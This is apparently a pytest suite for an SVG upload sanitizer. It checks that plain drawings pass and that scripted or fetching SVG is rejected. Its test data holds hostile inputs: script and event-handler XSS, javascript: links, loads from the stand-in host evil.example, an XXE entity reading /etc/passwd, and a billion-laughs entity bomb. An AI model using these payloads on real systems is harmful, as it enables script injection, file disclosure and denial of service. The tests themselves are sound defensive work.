"""SVG from anybody: plain ones are taken in, those that could act or fetch are refused with the reason."""

import io
import time
import tracemalloc

import pytest

from content.errors import RejectedMedia
from content.media import take

OPEN = (
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 120 80">'
)


def taken(body: str | bytes) -> tuple[int | None, int | None, str]:
    sink = io.BytesIO()
    result = take(io.BytesIO(body.encode() if isinstance(body, str) else body), "tegning.svg", sink)
    assert result.asset.media_type == "image/svg+xml"
    return result.asset.width, result.asset.height, sink.getvalue().decode()


def drawing(inside: str) -> str:
    return f"{OPEN}{inside}</svg>"


PLAIN = [
    '<rect width="10" height="10" fill="#0b5d5e"/>',
    '<defs><linearGradient id="g"><stop offset="0"/></linearGradient></defs><path d="M0 0" fill="url(#g)"/>',
    '<style>.a{fill:red;clip-path:url(#c)}</style><circle class="a" r="4"/>',
    '<symbol id="s"><path d="M0 0"/></symbol><use xlink:href="#s"/><use href="#s"/>',
    '<text x="1" style="font-weight:bold">Vask <tspan>hendene</tspan> &amp; tørk</text>',
    '<image href="data:image/png;base64,iVBORw0KGgo=" width="1" height="1"/>',
    "<title>Hender</title><desc>To hender</desc>",
]


@pytest.mark.parametrize("inside", PLAIN)
def test_a_plain_drawing_is_taken_in(inside: str) -> None:
    width, height, body = taken(drawing(inside))
    assert (width, height) == (120, 80)
    assert "Vask" in body or "Vask" not in inside
    assert taken(body)[2] == body


HARMFUL = [
    ("<script>alert(1)</script>", "<script>"),
    ('<script href="https://evil.example/x.js"/>', "<script>"),
    ('<rect onload="alert(1)"/>', "onload"),
    ('<rect ONCLICK="alert(1)"/>', "ONCLICK"),
    ("<foreignObject><p>x</p></foreignObject>", "<foreignObject>"),
    ('<a href="javascript:alert(1)"><rect/></a>', "<a>"),
    ('<use href="https://evil.example/x.svg#a"/>', "href=“https://evil"),
    ('<use xlink:href="data:image/svg+xml;base64,PHN2Zz4="/>', "href=“data:image/svg"),
    ('<image href="https://evil.example/track.png"/>', "href=“https://evil"),
    ('<image xlink:href="//evil.example/track.png"/>', "href=“//evil"),
    ('<image href="data:image/svg+xml,&lt;svg/&gt;"/>', "href=“data:image/svg"),
    ('<rect fill="url(https://evil.example/x)"/>', "fill="),
    ('<rect style="background:url(//evil.example)"/>', "style="),
    ('<rect style="width:expression(alert(1))"/>', "style="),
    ('<style>@import "https://evil.example/x.css";</style>', "url(…)"),
    ("<style>a{background:u\\72l(https://evil.example)}</style>", "url(…)"),
    ("<style>a{background:image-set('https://evil.example' 1x)}</style>", "url(…)"),
    ('<animate attributeName="href" values="javascript:alert(1)"/>', "<animate>"),
    ('<set attributeName="onload" to="alert(1)"/>', "<set>"),
    ("<feImage href='https://evil.example'/>", "<feImage>"),
    ("<handler>alert(1)</handler>", "<handler>"),
    ("<iframe/>", "<iframe>"),
]


@pytest.mark.parametrize(("inside", "reason"), HARMFUL, ids=[row[0][:40] for row in HARMFUL])
def test_what_could_act_is_refused_with_the_reason(inside: str, reason: str) -> None:
    with pytest.raises(RejectedMedia) as error:
        taken(drawing(inside))
    assert error.value.code == "media.svg_script"
    assert reason in str(error.value)
    assert "Save it as plain SVG or PNG" in str(error.value)


def test_elements_of_other_kinds_go_and_their_neighbours_stay() -> None:
    html = '<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>'
    program = (
        '<i:view xmlns:i="http://www.inkscape.org/namespaces/inkscape" i:zoom="2"/><metadata>x</metadata>'
    )
    _, _, body = taken(drawing(f"<text>før{html} etter</text>{program}<rect/>"))
    assert "script" not in body
    assert "inkscape" not in body
    assert "<text>før etter</text>" in body
    assert "<rect" in body


def test_a_processing_instruction_and_a_comment_go() -> None:
    body = taken(
        '<?xml version="1.0"?><?xml-stylesheet href="https://evil.example"?><!-- x -->' + drawing("")
    )[2]
    assert "evil" not in body
    assert "<!--" not in body


def test_the_doctype_of_drawing_programs_is_dropped() -> None:
    doctype = (
        '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">'
    )
    assert "DOCTYPE" not in taken(doctype + drawing("<rect/>"))[2]


LAUGHS = "<!DOCTYPE svg [<!ENTITY a 'ha'>" + "".join(
    f"<!ENTITY {chr(98 + n)} '{f'&{chr(97 + n)};' * 10}'>" for n in range(9)
)


@pytest.mark.parametrize(
    "doctype",
    [
        LAUGHS + "]>",
        '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE svg [<!ENTITY % p SYSTEM "https://evil.example/x.dtd"> %p;]>',
    ],
    ids=["billion laughs", "external entity", "parameter entity"],
)
def test_entities_are_refused_before_they_expand(doctype: str) -> None:
    with pytest.raises(RejectedMedia, match="ENTITY"):
        taken(doctype + drawing("<text>&x;&j;</text>"))


@pytest.mark.parametrize(
    "body",
    [
        "<svg><rect/></svg>",
        '<html xmlns="http://www.w3.org/1999/xhtml"><svg/></html>',
        OPEN,
        drawing("<g>" * 300 + "</g>" * 300),
        drawing("<g/>" * 60_000),
        drawing("&undefined;"),
    ],
    ids=["no namespace", "HTML around", "cut off", "too deep", "too many", "undefined entity"],
)
def test_damaged_or_outrageous(body: str) -> None:
    tracemalloc.start()
    start = time.process_time()
    with pytest.raises(RejectedMedia) as error:
        taken(body)
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert error.value.code == "media.damaged"
    assert time.process_time() - start < 5
    assert peak < 100 * 2**20


@pytest.mark.parametrize(
    ("attributes", "size"),
    [
        ('width="300" height="200"', (300, 200)),
        ('width="30.4px" height="20px" viewBox="0 0 1 1"', (30, 20)),
        ('viewBox="0,0,640,480"', (640, 480)),
        ('width="100%" height="100%" viewBox="0 0 64 48"', (64, 48)),
        ('width="100%"', (None, None)),
        ('viewBox="a b c d"', (None, None)),
        ('viewBox="0 0 1e9 1e9"', (None, None)),
    ],
)
def test_its_size(attributes: str, size: tuple[int | None, int | None]) -> None:
    assert taken(f'<svg xmlns="http://www.w3.org/2000/svg" {attributes}><rect/></svg>')[:2] == size
